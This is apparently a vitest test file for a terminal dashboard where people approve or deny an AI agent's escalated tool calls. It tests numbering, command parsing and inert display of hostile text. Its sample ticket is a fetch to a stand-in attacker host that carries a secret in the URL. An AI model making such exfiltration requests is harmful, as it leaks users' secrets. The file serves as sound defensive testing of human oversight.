// The escalation listener's pure parts: numbers that never change meaning, what a typed line means, and the
// dashboard's text (inert in a real terminal emulator, resources whole).
import { describe, expect, it } from 'vitest';
import { renderInTerminal } from '@ironcurtain/testing';
import type { PendingTicket } from '../src/domain/escalations/escalation-client.js';
import { parseListenerCommand } from '../src/domain/escalations/listener-commands.js';
import { createListenerDashboard } from '../src/domain/escalations/listener-dashboard.js';
import {
  formatDashboard,
  formatNewEntry,
  formatNumberProblem,
  formatRetired,
  formatSessions,
} from '../src/domain/escalations/listener-view.js';
import { hostileText, hostileTextShown } from './hostile-text.js';

const createdAt = Date.parse('2026-11-24T12:00:00.000Z');
const url = 'https://collect.attacker.example/collect?d=sandbox-secret-42';

function ticketOf(hex: string, sessionId: string, changes: Partial<PendingTicket> = {}): PendingTicket {
  return {
    id: `esc_${hex.padEnd(16, '0')}`,
    callId: `call-${hex}`,
    sessionId,
    serverName: 'fetch',
    toolName: 'http_fetch',
    canonicalArguments: { headers: { 'X-Pad': 'x'.repeat(900) }, url },
    argsHash: 'a'.repeat(64),
    reason: 'The site is not on an approved list',
    rule: 'escalate-fetch-other-sites',
    escalatedRoles: ['fetch-url'],
    argumentRoles: { url: ['fetch-url'], headers: ['none'] },
    createdAt: new Date(createdAt).toISOString(),
    expiresAt: new Date(createdAt + 300_000).toISOString(),
    status: 'pending',
    autoApproved: false,
    ...changes,
  };
}

describe('listener dashboard numbers', () => {
  it('numbers tickets across sessions and never gives a number to another ticket', () => {
    const dashboard = createListenerDashboard();
    const first = dashboard.add(ticketOf('a1', 'sess-a'), 1);
    const second = dashboard.add(ticketOf('b1', 'sess-b'), 2);
    expect([first?.number, second?.number]).toEqual([1, 2]);
    // Ticket 1 is settled elsewhere and a new ticket arrives before the person types "/approve 1".
    const retired = dashboard.settle({ ticketId: ticketOf('a1', '').id, status: 'denied', approver: 'bob' });
    const newcomer = dashboard.add(ticketOf('c1', 'sess-a'), 3);
    expect(retired).toMatchObject({ number: 1, outcome: 'denied by bob' });
    expect(newcomer?.number).toBe(3);
    expect(dashboard.lookup(1)).toMatchObject({
      kind: 'retired',
      entry: { ticket: { id: ticketOf('a1', '').id } },
    });
    expect(dashboard.lookup(3)).toMatchObject({
      kind: 'pending',
      entry: { ticket: { id: ticketOf('c1', '').id } },
    });
    expect(dashboard.lookup(4)).toEqual({ kind: 'unknown' });
    expect(dashboard.pending().map((entry) => entry.number)).toEqual([2, 3]);
  });

  it('shows a ticket once, and never again once it is known to be settled', () => {
    const dashboard = createListenerDashboard();
    expect(dashboard.add(ticketOf('a1', 'sess-a'), 1)).toBeDefined();
    expect(dashboard.add(ticketOf('a1', 'sess-a'), 2)).toBeUndefined();
    // A settlement heard before the ticket itself (a late opened event, or a list read before the answer).
    expect(dashboard.settle({ ticketId: ticketOf('b1', '').id, status: 'approved' })).toBeUndefined();
    expect(dashboard.add(ticketOf('b1', 'sess-b'), 3)).toBeUndefined();
    expect(dashboard.pending().map((entry) => entry.ticket.id)).toEqual([ticketOf('a1', '').id]);
  });

  it('reconciles with a fresh list: retires only tickets shown before the list was asked for', () => {
    const dashboard = createListenerDashboard();
    dashboard.add(ticketOf('a1', 'sess-a'), 100);
    dashboard.add(ticketOf('b1', 'sess-a'), 300);
    const { added, retired } = dashboard.reconcile([ticketOf('c1', 'sess-c')], 200, 400);
    expect(retired.map((entry) => [entry.number, entry.outcome])).toEqual([
      [1, 'settled, but this listener missed how (e.g. while disconnected)'],
    ]);
    expect(added.map((entry) => entry.number)).toEqual([3]);
    // b1 arrived after the list was read: missing from it, but not settled.
    expect(dashboard.pending().map((entry) => entry.number)).toEqual([2, 3]);
  });
});

describe('listener commands', () => {
  it.each([
    ['/approve 3', { kind: 'answer', decision: 'approved', target: [3] }],
    ['  /deny #2 5 2 ', { kind: 'answer', decision: 'denied', target: [2, 5] }],
    ['/approve all', { kind: 'answer', decision: 'approved', target: 'all' }],
    ['/deny ALL', { kind: 'answer', decision: 'denied', target: 'all' }],
    ['/list', { kind: 'list' }],
    ['/sessions', { kind: 'sessions' }],
    ['/quit', { kind: 'quit' }],
    ['', { kind: 'nothing' }],
    ['approve 3', { kind: 'help' }],
    ['/help', { kind: 'help' }],
  ])('%j', (line, expected) => {
    expect(parseListenerCommand(line)).toEqual(expected);
  });

  it.each(['/approve', '/approve 3x', '/approve 0', '/deny 1 two', '/approve all 3', '/approve -1'])(
    'refuses %j as a whole',
    (line) => {
      expect(parseListenerCommand(line)).toMatchObject({ kind: 'invalid' });
    },
  );
});

describe('listener view', () => {
  const now = createdAt + 72_000;

  it('shows number, session, tool, age, the whole URL first, then the reason', () => {
    const dashboard = createListenerDashboard();
    const entry = dashboard.add(ticketOf('3f9a0c', 'sess-a'), now);
    const lines = formatDashboard(dashboard.pending(), now).split('\n');
    expect(lines.slice(0, 5)).toEqual([
      '1 pending escalation:',
      '',
      '#1  session sess-a  fetch.http_fetch  waiting 1m12s (expires in 3m48s)  [3f9a0c]',
      '    reason: The site is not on an approved list (rule escalate-fetch-other-sites)',
      `    url [fetch-url, escalated]: "${url}"`,
    ]);
    expect(lines[5]).toMatch(/^ {4}headers \[none\]: \{"X-Pad":"x+… \(\d+ more characters\)$/);
    expect(formatNewEntry(entry!, now)).toContain('new escalation:\n#1  session sess-a');
    expect(formatDashboard([], now)).toMatch(/^no pending escalations; new ones will show here\ncommands: /);
  });

  it('shows the URL the agent asked for beside the one that will be fetched', () => {
    const dashboard = createListenerDashboard();
    const asked = `${url}#fragment`;
    const entry = dashboard.add(
      ticketOf('3f9a0c', 'sess-a', {
        requestedArguments: { headers: { 'X-Pad': 'x'.repeat(900) }, url: asked },
      }),
      now,
    );
    const lines = formatNewEntry(entry!, now).split('\n');
    expect(lines.slice(4, 7)).toEqual([
      '    url [fetch-url, escalated]:',
      `      asked: "${asked}"`,
      `      will run: "${url}"`,
    ]);
    expect(lines[7]).toMatch(/^ {4}headers \[none\]: \{"X-Pad":"x+… \(\d+ more characters\)$/);
  });

  it('shows hostile session ids, tools, arguments, reasons and approvers inert', async () => {
    const hostile = ticketOf('bad', `sess${hostileText}`, {
      toolName: `http_fetch${hostileText}`,
      reason: hostileText,
      canonicalArguments: { url: `${url}${hostileText}`, headers: { [hostileText]: hostileText } },
    });
    const dashboard = createListenerDashboard();
    dashboard.add(hostile, now);
    const retired = dashboard.settle({ ticketId: hostile.id, status: 'approved', approver: hostileText });
    const text = [
      formatDashboard([{ number: 1, ticket: hostile, shownAt: now }], now),
      formatRetired(retired!),
      formatNumberProblem(1, { kind: 'retired', entry: retired! }, []),
      formatSessions(
        [{ sessionId: hostile.sessionId, status: hostileText, pendingNumbers: [1] }],
        hostileText,
      ),
    ].join('');
    const screen = await renderInTerminal(text);
    expect(screen.effects).toEqual([]);
    expect(screen.hasDefaultModes).toBe(true);
    expect(screen.scrollsNormally).toBe(true);
    expect(screen.lines).toContain(`    reason: ${hostileTextShown} (rule escalate-fetch-other-sites)`);
    // The approver is cut at 200 characters, visibly; what is shown is inert.
    expect(screen.lines.join('\n')).toContain(
      `is no longer pending: approved by ${hostileTextShown.slice(0, 60)}`,
    );
  });

  it('lists sessions with their pending numbers, and says when their states are unknown', () => {
    const text = formatSessions(
      [
        { sessionId: 'sess-a', status: 'running', pendingNumbers: [1, 3] },
        { sessionId: 'sess-b', pendingNumbers: [] },
      ],
      'session.list.v1: no service is answering (is it running?)',
    );
    expect(text).toBe(
      'sessions:\n  sess-a  running  2 pending (#1, #3)\n  sess-b  status unknown  0 pending\n' +
        '  (session states unknown: session.list.v1: no service is answering (is it running?))\n',
    );
  });
});
